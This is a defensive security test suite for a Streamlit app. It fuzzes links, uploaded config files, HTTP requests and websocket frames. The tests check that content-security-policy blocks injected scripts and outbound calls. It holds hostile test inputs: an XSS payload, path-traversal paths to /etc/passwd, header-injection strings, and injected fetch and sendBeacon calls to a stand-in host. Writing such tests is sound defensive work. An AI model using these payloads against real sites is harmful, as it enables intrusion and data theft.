"""What a stranger may send: any bytes in a link or a file, any header, any frame. Text stays text, and a mistake is one
sentence."""

from __future__ import annotations

import http.client
import json
import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import screens
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from screens import HEARD, PAGES, READING
from streamlit import config as streamlit_config
from streamlit.proto.BackMsg_pb2 import BackMsg
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import connect

from model import config_json
from pages.kit import host, state, words

ROOT = Path(__file__).resolve().parents[1]
BOUNDED = settings(
    max_examples=3, deadline=None, derandomize=True, database=None, phases=[Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)  # fmt: skip

# -- any link ----------------------------------------------------------------------------------------------------------

EVIL = '<q9z onload="alert(1)">![q9z](http://q9z.example/x.png)[q9z](javascript:alert(1))</q9z>'
WAS_HTML = re.compile(r"(?<!\\)<q9z|(?<!\\)!(?<!\\)\[q9z|(?<!\\)\[q9z")
text = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
anything = st.one_of(
    text,
    st.binary(max_size=40).map(lambda raw: raw.decode("latin-1")),
    st.integers().map(str),
    st.sampled_from(["", "\x00", "0", "-1", "NaN", "1e999", "٣", "\u202e", "../../etc/passwd", "{0.__class__}", "%s%n", EVIL, "9" * 400]),
)
nearly = st.one_of(  # what has the right shape, whatever it means
    st.integers(0, 999_999).map(str),
    st.integers(0, 20).map(str),
    st.from_regex(r"[a-z0-9][a-z0-9_-]{0,8}(\.[a-z0-9][a-z0-9_-]{0,8}){0,3}", fullmatch=True),
    st.from_regex(r"\d\.\d{1,4}(-\d\.\d{1,4}){0,3}", fullmatch=True),
    st.sampled_from(sorted(state.CHANGES)),
)
links = [setting.link for setting in state.SETTINGS if setting.link and setting.link not in ("lang", "s")]
some_links = st.fixed_dictionaries(
    {}, optional={name: st.one_of(anything, nearly) for name in links} | {"s": st.one_of(text.filter(str.strip), st.just(EVIL))}
)


def html_and_markdown(at) -> list[str]:
    """Everything on the page that a browser would read as HTML or as Markdown."""
    said = [*at.markdown, *at.caption, *at.error, *at.title, *at.subheader, *at.header]
    return [one.value for one in said] + [one.proto.body for one in at.get("html")] + [b.label for b in at.button]


@pytest.mark.parametrize("page", PAGES, ids=lambda page: Path(page).stem)
def test_any_link_on_any_page(monkeypatch, clinic_folder, page):
    """No exception, at most one sentence about what is wrong, and nothing that came with the link is more than text."""
    monkeypatch.setenv("TOKEN_HOSPITAL_CHECKPOINT", str(clinic_folder))
    unknown = {table["error.unknown"] for table in words.tables().values()}

    @BOUNDED
    @given(some_links, st.sampled_from(screens.LANGUAGES), st.sampled_from(state.DEPTHS))
    def look(query, lang, depth):
        at = screens.open_page(page, lang, **{**query, "depth": depth})
        assert not at.exception, (query, [e.value for e in at.exception])
        assert len(at.error) <= 1 and not unknown & {e.value.replace("\\", "") for e in at.error}, (query, at.error)
        assert not [said for said in html_and_markdown(at) if WAS_HTML.search(said)], query

    look()


@pytest.mark.parametrize("page", READING, ids=lambda page: Path(page).stem)
def test_a_sentence_of_markup_stays_a_sentence(monkeypatch, clinic_folder, page):
    monkeypatch.setenv("TOKEN_HOSPITAL_CHECKPOINT", str(clinic_folder))
    for depth in state.DEPTHS:
        at = screens.open_page(page, "en", s=EVIL, depth=depth)
        assert screens.fine(at) and at.text_input(key="sentence_box").value == EVIL
        assert not [said for said in html_and_markdown(at) if WAS_HTML.search(said)]


# -- any file ----------------------------------------------------------------------------------------------------------


@settings(max_examples=200, deadline=None, derandomize=True, database=None)
@given(st.one_of(st.binary(max_size=400), text.map(lambda one: json.dumps({"model_type": one}).encode())))
def test_any_bytes_as_a_config(raw):
    """Read strictly, or refused with words."""
    try:
        config_json.parse(raw)
    except Exception as error:
        assert hasattr(error, "key"), repr(error)


@pytest.mark.parametrize("raw", [b"", b"\x00" * 999, b"[" * 9_999, b"{", "{\"model_type\": \"\ud83d\ude00\"}".encode("utf-8", "surrogatepass"), EVIL.encode()])
def test_any_bytes_at_the_uploader(monkeypatch, clinic_folder, raw):
    monkeypatch.setenv("TOKEN_HOSPITAL_CHECKPOINT", str(clinic_folder))
    at = screens.open_page("pages/hospitals.py", "en")
    at = at.file_uploader[0].upload("config.json", raw, "application/json").run()
    assert not at.exception and len(at.error) == 1
    assert not [said for said in html_and_markdown(at) if WAS_HTML.search(said)]


# -- any request -------------------------------------------------------------------------------------------------------


def ask(server: str, method: str, path: str, body: bytes = b"", **headers: str) -> tuple[int, dict[str, str], bytes]:
    connection = http.client.HTTPConnection(urlsplit(server).netloc, timeout=30)
    connection.request(method, path, body or None, headers)
    answer = connection.getresponse()
    found = answer.status, {name.lower(): value for name, value in answer.getheaders()}, answer.read()
    connection.close()
    return found


def socket_of(server: str, **more):
    address = server.replace("http", "ws") + "/_stcore/stream"
    return connect(address, subprotocols=["streamlit"], proxy=None, open_timeout=30, compression=None, **more)


@pytest.mark.parametrize("path", ["/", "/triage?s=%3Cscript%3E", "/app/static/plates/plates.js", "/_stcore/health", "/nowhere"])
def test_every_answer_tells_the_browser_what_it_may_do(server, path):
    status, headers, _ = ask(server, "GET", path)
    assert status == 200
    rules = dict(rule.split(" ", 1) for rule in headers["content-security-policy"].split("; "))
    assert "'unsafe-inline'" not in rules["script-src"] and "'unsafe-eval'" not in rules["script-src"]
    assert rules["default-src"] == "'self'" and rules["object-src"] == "'none'" and "'self'" in rules["frame-ancestors"]
    assert f"ws://{urlsplit(server).netloc}" in rules["connect-src"].split()
    assert not [source for rule in rules.values() for source in rule.split() if source.startswith(("*", "http"))]
    assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "same-origin"


def test_a_host_that_is_none_does_not_get_into_the_policy():
    for evil in ("a; script-src *", "evil.example/", "a b", "[::1", "x\r\ny: z", ""):
        assert "ws://" not in host.policy(evil)
    assert "ws://[::1]:8501 " in host.policy("[::1]:8501")


def test_whose_pages_may_show_this_one(monkeypatch):
    monkeypatch.setenv(host.FRAMES, "https://school.example; script-src *")
    assert "frame-ancestors 'self' https://school.example script-src *" in host.policy("")
    assert host.policy("").count("script-src 'self' blob:") == 1


def test_settings_that_keep_the_house_safe():
    assert streamlit_config.get_option("client.showErrorDetails") == "none"
    assert streamlit_config.get_option("server.enableXsrfProtection") and streamlit_config.get_option("server.enableCORS")
    assert streamlit_config.get_option("browser.gatherUsageStats") is False
    assert streamlit_config.get_option("server.maxUploadSize") == 1 and streamlit_config.get_option("server.maxMessageSize") <= 10
    assert not streamlit_config.get_option("server.enableAgentApi")


def test_another_sites_page_gets_no_session(server):
    with pytest.raises(InvalidStatus), socket_of(server, origin="http://evil.example"):
        pass


@pytest.mark.parametrize("frame", [b"\xff" * 50, "text", BackMsg(clear_cache=True).SerializeToString()[:1] + b"\x99\x99", b"\x00"], ids=["junk", "text", "cut", "null"])
def test_frames_that_are_none(server, frame):
    """The window is closed or nothing happens; the others do not notice."""
    with socket_of(server) as window:
        window.send(frame)
        try:
            while window.recv(timeout=1):
                pass
        except (ConnectionClosed, TimeoutError):
            pass
    assert ask(server, "GET", "/_stcore/health")[0] == 200


def test_a_frame_that_is_too_large_closes_its_window(server):
    with socket_of(server, max_size=None) as window, pytest.raises(ConnectionClosed):
        window.send(b"\x00" * (30 * 2**20))
        while True:
            window.recv(timeout=20)
    assert ask(server, "GET", "/_stcore/health")[0] == 200


def test_nobody_sends_a_file_without_a_visit(server):
    assert ask(server, "PUT", "/_stcore/upload_file/a/b", b"x" * 10)[0] == 403  # no token of this site
    assert ask(server, "POST", "/_stcore/upload_file/a/b", b"x")[0] in (403, 405)


@pytest.mark.parametrize("path", [
    "/app/static/../app.py", "/app/static/%2e%2e/app.py", "/app/static/..%2fapp.py", "/app/static/..%5capp.py", "/app/static//etc/passwd",
    "/media/../app.py", "/static/../../config.py", "/component/x/../../app.py",
])  # fmt: skip
def test_no_file_outside_of_what_is_served(server, path):
    _, _, body = ask(server, "GET", path)
    assert b"shell.run" not in body and b"root:" not in body


# -- in a browser ------------------------------------------------------------------------------------------------------

PATIENCE = 60_000


def test_what_is_smuggled_in_can_fetch_nothing(server, browser):
    """As if a script or a picture had got into the page after all: it is blocked before anything leaves."""
    context = browser.new_context(locale="en-US")
    context.set_default_timeout(PATIENCE)
    context.add_init_script(HEARD)
    page, outside = context.new_page(), []
    context.on("requestfinished", lambda one: outside.append(one.url) if not one.url.startswith((server, "data:", "blob:")) else None)
    page.goto(server)
    page.locator("[data-testid=stApp]").wait_for()
    page.evaluate("""() => {
      const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
      add("img", { src: "http://q9z.example/x.png" });
      add("script", { src: "http://q9z.example/x.js" });
      add("script", { textContent: "window.smuggled = true" });
      add("iframe", { src: "http://q9z.example/" });
      add("link", { rel: "stylesheet", href: "http://q9z.example/x.css" });
      add("object", { data: "http://q9z.example/x" });
      fetch("http://q9z.example/").catch(() => {});
      navigator.sendBeacon("http://q9z.example/", "x");
      try { new WebSocket("ws://q9z.example/"); } catch {}
    }""")
    screens.until(page, "() => new Set(window.heard.map((one) => one.split(' ')[0])).size >= 6")
    kinds = {one.split(" ")[0] for one in page.evaluate("window.heard")}
    assert {"img-src", "script-src-elem", "frame-src", "style-src-elem", "object-src", "connect-src"} <= kinds
    assert page.evaluate("window.smuggled === undefined") and outside == []
    context.close()
